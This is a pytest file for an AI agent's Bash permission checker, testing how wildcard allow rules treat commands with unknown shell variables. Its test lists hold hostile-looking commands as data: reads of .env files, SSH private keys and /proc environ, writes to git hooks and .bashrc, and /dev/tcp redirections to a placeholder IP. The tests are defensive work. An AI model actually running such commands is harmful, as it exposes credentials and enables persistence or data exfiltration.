"""A word that isn't fully known still says what it says: an allow rule's star doesn't reach past that."""

from __future__ import annotations

import pytest

from support.judging import answer, call

ORGANISATION = """version: 1
permissions:
  allow: ["Bash(cat *)", "Bash(tee *)", "Bash(cp *)", "Bash(rm *)", "Bash(npm test)", "Bash(foo bar *)"]
"""
PROTECTED = [
    'cat "$x/.env"',
    'cat "$(pwd)/.env"',
    'cat "${x}/.ssh/id_rsa"',
    'cat ~"$x"/.ssh/id_rsa',
    'cat "/proc/$x/environ"',
    'tee "$x/.git/hooks/pre-commit"',
    'cp x "$x/.bashrc"',
    'cp .bashrc "$x/"',
    'rm "$x/.git/config"',
    'cat "$x/$y/.env"',
]
NOT_COVERED = [
    "npm test > /dev/tcp/192.0.2.1/80",
    "npm test < /dev/tcp/192.0.2.1/80",
    "npm test 3<> /dev/tcp/192.0.2.1/80",
    'foo bar --"$x"',
    'foo bar -"$x"',
    'foo bar "-$x"',
]
HARMLESS = ['cat "$x"', 'cat "$x/README.md"', 'cat "$x.env.md"', 'cp a "$x"', 'foo bar "$x"', 'foo bar --name="$x"']


@pytest.mark.parametrize("command", PROTECTED)
@pytest.mark.parametrize("mode", ["default", "auto"])
def test_a_protected_name_behind_an_unknown_folder_is_a_question(command, mode):
    assert answer(call("Bash", {"command": command}, permission_mode=mode), ORGANISATION) == "ask protected_path"


@pytest.mark.parametrize("command", NOT_COVERED)
def test_what_a_rule_does_not_say_is_not_covered(command):
    assert answer(call("Bash", {"command": command}), ORGANISATION) == "ask default_mode"


@pytest.mark.parametrize("command", HARMLESS)
def test_an_operand_that_could_be_anything_is_covered(command):
    assert answer(call("Bash", {"command": command}), ORGANISATION) == "allow allow_rule"


def test_the_bare_tool_covers_a_connection():
    allowed = "version: 1\npermissions: {allow: [Bash]}\n"
    assert answer(call("Bash", {"command": NOT_COVERED[0]}), allowed) == "allow allow_rule"
